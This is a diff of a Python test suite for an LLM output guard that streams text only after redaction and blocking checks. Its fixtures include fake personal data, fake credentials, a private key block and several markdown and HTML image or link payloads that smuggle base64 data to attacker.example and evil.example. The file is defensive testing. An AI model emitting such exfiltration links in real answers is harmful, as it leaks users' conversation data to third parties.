@@ -1,39 +1,73 @@
-"""Streaming: text leaves sentence by sentence, never ahead of its check."""
+"""Streaming: text leaves as soon as no output rail could still change it, never ahead of its check,
+and the pieces joined are exactly what the whole answer's check gives, under any chunking."""
 
 import asyncio
+import random
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from guard.chain import Guard
-from guard.policy import load_policy
-from guard.streaming import OutputStream, guarded, release_point, sse_event, stream_step
+from guard.policy import OutputRails, load_policy
+from guard.streaming import (
+    RAIL_TAILS,
+    WHOLE_ANSWER_RAILS,
+    OutputStream,
+    guarded_stream,
+    release_point,
+    sse_event,
+    stream_step,
+)
 
 GUARD = Guard(load_policy())
 
 
-def feed_all(chunks: list[str]) -> tuple[list[str], OutputStream]:
-    stream = OutputStream(GUARD)
+def feed_all(chunks: list[str], guard: Guard = GUARD) -> tuple[list[str], OutputStream]:
+    stream = OutputStream(guard)
     released = [stream.feed(chunk).released for chunk in chunks]
     released.append(stream.finish().released)
     return released, stream
 
 
-def test_nothing_is_released_before_its_sentence_ends() -> None:
-    released, _ = feed_all(["The answer", " is 42", ". It", " is well known", ".", ""])
-    assert released == ["", "", "The answer is 42. ", "", "", "", "It is well known."]
+def with_blocked_terms(*terms: str) -> Guard:
+    policy = load_policy()
+    blocklist = policy.output.blocklist.model_copy(update={"terms": terms})
+    return Guard(policy.model_copy(update={"output": policy.output.model_copy(update={"blocklist": blocklist})}))
+
+
+def test_text_leaves_word_by_word_not_sentence_by_sentence() -> None:
+    released, _ = feed_all(["The", " answer", " is", " 42", ".", " It", " is", " known", "."])
+    # Each word leaves once the next one begins (it may still grow until then: "is" -> "is@x.io").
+    assert released == ["", "The ", "answer ", "is ", "", "42. ", "It ", "is ", "", "known."]
+
+
+def test_only_the_tail_that_could_still_match_is_held() -> None:
+    assert release_point(GUARD, "Call me at 555-123") == len("Call me at ")  # digits may grow into a phone
+    assert release_point(GUARD, "Call me at 555-123-4567.") == len("Call me at ")  # ".5" would undo the match
+    assert release_point(GUARD, "Write to jane@exam") == len("Write to ")
+    assert release_point(GUARD, "Fine words, ") == len("Fine words, ")
+    assert release_point(GUARD, "See [the report. It is long](https://evil.example/?d=") == len("See ")
+    assert release_point(GUARD, "Intro. ![x](https://evil.example/a.png?q=") == len("Intro. ")
+    assert release_point(GUARD, "Here it is.\n-----BEGIN PRIVATE KEY-----\nMIIEvQ\n") == len("Here it is.\n")
+    assert release_point(GUARD, "Keycap 1") == len("Keycap ")  # U+FE0F U+20E3 may follow
+    assert release_point(GUARD, "Watch out!") == len("Watch ")  # `![` may follow
+    assert release_point(with_blocked_terms("pipe bomb"), "How to make a pipe ") == len("How to make a ")
+
+
+def test_every_output_rail_declares_its_streaming_tail() -> None:
+    assert set(OutputRails.model_fields) == RAIL_TAILS.keys() | WHOLE_ANSWER_RAILS
+    assert not RAIL_TAILS.keys() & WHOLE_ANSWER_RAILS
 
 
 def test_pii_split_across_chunks_is_redacted_before_release() -> None:
     chunks = ["Write to ja", "ne@exam", "ple.com for help", ". Thanks!"]
     released, _ = feed_all(chunks)
-    joined = "".join(released)
-    assert joined == "Write to [REDACTED:EMAIL] for help. Thanks!"
+    assert "".join(released) == "Write to [REDACTED:EMAIL] for help. Thanks!"
     assert all("ja" not in r or "REDACTED" in r for r in released)
 
 
-def test_an_open_link_or_key_block_is_held_until_it_closes() -> None:
-    assert release_point("See [the report. It is long](https://evil.example/?d=") == len("See ")
-    assert release_point("Intro. ![x](https://evil.example/a.png?q=") == len("Intro. ")
-    key_text = "Here it is.\n-----BEGIN PRIVATE KEY-----\nMIIEvQ\n"
-    assert release_point(key_text) == len("Here it is.\n")
+def test_an_open_key_block_is_held_until_it_closes() -> None:
     released, _ = feed_all(
         ["Here it is.\n-----BEGIN PRIVATE KEY-----\n", "MIIEvQIBADAN\n", "-----END PRIVATE KEY-----\nDone."]
     )
@@ -43,50 +77,53 @@ def test_an_open_link_or_key_block_is_held_until_it_closes() -> None:
     )
 
 
-def test_a_blocked_sentence_stops_the_stream() -> None:
-    policy = load_policy()
-    guard = Guard(
-        policy.model_copy(
-            update={
-                "output": policy.output.model_copy(
-                    update={"blocklist": policy.output.blocklist.model_copy(update={"terms": ("acme",)})}
-                )
-            }
-        )
-    )
-    stream = OutputStream(guard)
+def test_a_blocked_piece_stops_the_stream() -> None:
+    stream = OutputStream(with_blocked_terms("acme"))
     assert stream.feed("Fine so far. ").released == "Fine so far. "
     step = stream.feed("Buy Acme now. More text. ")
     assert step.blocked and step.released == "" and step.verdict.blocked_by == ("blocklist",)
     assert stream.feed("anything").blocked and stream.finish().released == ""
 
 
-def test_a_long_run_without_sentence_ends_is_released_in_pieces() -> None:
-    text = "word " * 600
-    cut = release_point(text)
-    assert 0 < cut <= 2000 and text[:cut].endswith(" ")
+def test_a_long_run_without_whitespace_is_released_in_pieces() -> None:
+    text = "x" * 3000
+    cut = release_point(GUARD, text)
+    assert 0 < cut < len(text)
 
 
 def test_the_stateless_step_carries_pending_between_calls() -> None:
     first = stream_step(GUARD, "", "Call me at 555-123")
-    assert (first.released, first.pending) == ("", "Call me at 555-123")
+    assert (first.released, first.pending) == ("Call me at ", "555-123")
     second = stream_step(GUARD, first.pending, "-4567 today. Bye")
-    assert second.released == "Call me at [REDACTED:PHONE] today. " and second.pending == "Bye"
+    assert second.released == "[REDACTED:PHONE] today. " and second.pending == "Bye"
     last = stream_step(GUARD, second.pending, "", final=True)
     assert (last.released, last.pending) == ("Bye", "")
     assert second.to_json()["rails"][0]["rail"] == "pii"
 
 
-def test_guarded_wraps_an_async_source_for_server_sent_events() -> None:
+def test_a_json_answer_is_held_whole_and_checked_with_the_json_rail() -> None:
+    first = stream_step(GUARD, "", '{"answer": ', json_mode=True)
+    assert first.released == "" and first.pending == '{"answer": '
+    done = stream_step(GUARD, first.pending, "42}", final=True, json_mode=True)
+    assert done.released == '{"answer": 42}'
+    refused = stream_step(GUARD, "", "not json", final=True, json_mode=True)
+    assert refused.blocked and refused.verdict.blocked_by == ("json_schema",)
+
+
+def test_guarded_stream_wraps_an_async_source_for_server_sent_events() -> None:
     async def tokens():
         for token in ["Mail ", "a@b.io", ". ", "Done", "."]:
             yield token
 
     async def collect() -> list[str]:
-        return [sse_event({"text": step.released}) async for step in guarded(tokens(), GUARD)]
+        return [sse_event({"text": step.released}) async for step in guarded_stream(tokens(), GUARD)]
 
     events = asyncio.run(collect())
-    assert events == ['data: {"text": "Mail [REDACTED:EMAIL]. "}\n\n', 'data: {"text": "Done."}\n\n']
+    assert events == [
+        'data: {"text": "Mail "}\n\n',
+        'data: {"text": "[REDACTED:EMAIL]. "}\n\n',
+        'data: {"text": "Done."}\n\n',
+    ]
 
 
 # Issue 11, inputs 13 and 14 streamed: any split into chunks gives what the whole-text check gives.
@@ -115,8 +152,119 @@ def test_emoji_come_back_whole_from_the_output_check() -> None:
 
 
 def test_a_forced_cut_in_a_long_run_never_splits_an_emoji_sequence() -> None:
-    text = "x" * 1995 + "🏳️‍🌈" * 4
-    cut = release_point(text)
-    assert text[:cut] == "x" * 1995 + "🏳️‍🌈"  # the cluster across index 2000 waits whole
+    text = "x" * 1995 + "🏳️‍🌈" * 400
+    cut = release_point(GUARD, text)
+    assert 0 < cut < len(text) and text[:cut].endswith("🏳️‍🌈")  # the last flag waits whole
     released, _ = feed_all([text[i : i + 7] for i in range(0, len(text), 7)])
     assert "".join(released) == text
+
+
+# Property: for answers built of prose, personal data (a phone split by a newline too), secrets
+# and exfiltration links, any chunking streams exactly the whole answer's checked text, and each
+# piece leaves only as the text of a check made on it.
+KEY_BLOCK = (
+    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcwggSjAgEAAoIBAQC7\n-----END PRIVATE KEY-----"
+)
+SENSITIVE = {
+    "jane.doe@example.com": "mail jane.doe@example.com today",
+    "555 123 4567": "call 555 123 4567.",
+    "555 123\n4567": "or 555 123\n4567 at night",  # a phone number split by a newline
+    "+44 20 7946 0958": "London +44 20 7946 0958,",
+    "4111 1111 1111 1111": "card 4111 1111 1111 1111 expires",
+    "DE89 3704 0044 0532 0130 00": "IBAN DE89 3704 0044 0532 0130 00 please",
+    "123-45-6789": "SSN 123-45-6789.",
+    "192.168.1.20": "host 192.168.1.20 is up",
+    "AKIAIOSFODNN7EXAMPLE": "key AKIAIOSFODNN7EXAMPLE ok",
+    "ghp_" + "a1B2" * 9: "token ghp_" + "a1B2" * 9 + " here",
+    "hunter2Xq9zz": "password = hunter2Xq9zz and",
+    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC": KEY_BLOCK,
+    "c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA": "![chart](https://attacker.example/p?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)",
+    "c2VjcmV0IGxpbmsgZGF0YSBoZXJlIQ": "[the report](https://evil.example/r?q=c2VjcmV0IGxpbmsgZGF0YSBoZXJlIQ)",
+    "ZXhmaWwgdmlhIGF1dG9saW5r": "<https://evil.example/a?d=ZXhmaWwgdmlhIGF1dG9saW5rIGRhdGE>",
+    "aW1nIHRhZyBkYXRhIGV4Zmls": "<img src='https://evil.example/i.png?d=aW1nIHRhZyBkYXRhIGV4ZmlsIQ'>",
+    "cmVmZXJlbmNlIGltYWdl": "![x][1]\n\n[1]: https://evil.example/p?d=cmVmZXJlbmNlIGltYWdlIGRhdGE\n",
+    "YmFyZSB1cmwgZGF0YSBsZWFr": "see https://evil.example/b?d=YmFyZSB1cmwgZGF0YSBsZWFrcyBoZXJl now",
+}
+PROSE = [
+    "The launch is at dawn.",
+    "It is 42 km away, in 1969 and 2024.",
+    "Version 1.2.3 works!",
+    "Use [the docs](https://docs.example/guide) for more.",
+    "Pride 🏳️‍🌈 and keycap 1️⃣ and ❤️‍🔥.",
+    "A list:\n- one\n- two",
+    "Prices: 10.50, 3-4 days (maybe).",
+    "Is it? Yes!",
+    "Run `ls [x](y)` and ``a ` b`` now.",
+    "Markdown, as written:\n```md\n![x](https://evil.example/p?d=aW4gYSBjb2RlIGJsb2NrIGl0IGlzIHRleHQ)\n```\n",
+]
+SEPARATORS = [" ", "\n", "\n\n", ". ", ", "]
+
+
+class RecordingGuard(Guard):
+    """The real guard, noting the text of every check it makes (what may leave, and only that)."""
+
+    def __init__(self) -> None:
+        super().__init__(load_policy())
+        self.checked: list[str] = []
+
+    def check_output(self, text, **kwargs):
+        verdict = super().check_output(text, **kwargs)
+        self.checked.append(verdict.text)
+        return verdict
+
+
+def stream_in(text: str, cuts: list[int]) -> tuple[list[str], RecordingGuard]:
+    guard = RecordingGuard()
+    stream = OutputStream(guard)
+    bounds = [0, *sorted(set(cuts)), len(text)]
+    released = []
+    for start, end in zip(bounds, bounds[1:], strict=False):
+        before = len(guard.checked)
+        step = stream.feed(text[start:end])
+        # Nothing leaves that was not the text of a check made for it, in this very step.
+        assert step.released == "".join(guard.checked[before:])
+        released.append(step.released)
+    released.append(stream.finish().released)
+    return released, guard
+
+
+def assert_streams_like_the_whole(text: str, cuts: list[int]) -> None:
+    whole = GUARD.check_output(text, streaming=True).text
+    released, _ = stream_in(text, cuts)
+    assert "".join(released) == whole, (text, cuts)
+
+
+# Each fragment once: a repeated reference label is a different text (its second definition
+# is no definition in the whole answer, but is one in a piece of its own).
+answers = st.lists(st.sampled_from([*SENSITIVE.values(), *PROSE]), min_size=1, max_size=6, unique=True).flatmap(
+    lambda parts: st.lists(st.sampled_from(SEPARATORS), min_size=len(parts), max_size=len(parts)).map(
+        lambda seps: "".join(part + sep for part, sep in zip(parts, seps, strict=True))
+    )
+)
+
+
+@settings(max_examples=150, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
+@given(data=st.data(), text=answers)
+def test_any_chunking_of_an_answer_streams_exactly_the_whole_check(data, text: str) -> None:
+    if len(text) < 2:
+        return
+    cuts = data.draw(st.lists(st.integers(1, len(text) - 1), max_size=len(text) // 3))
+    assert_streams_like_the_whole(text, cuts)
+
+
+@pytest.mark.parametrize("value", list(SENSITIVE))
+def test_a_sensitive_value_split_at_every_position_streams_like_the_whole(value: str) -> None:
+    text = f"Here: {SENSITIVE[value]} Thanks."
+    for cut in range(1, len(text)):
+        assert_streams_like_the_whole(text, [cut])
+
+
+def test_token_sized_chunks_of_every_sample_stream_like_the_whole() -> None:
+    rng = random.Random(12)
+    text = " ".join([*SENSITIVE.values(), *PROSE])
+    for _ in range(5):
+        cuts, at = [], 0
+        while at < len(text):
+            at += rng.randint(1, 6)
+            cuts.append(at)
+        assert_streams_like_the_whole(text, [c for c in cuts if c < len(text)])
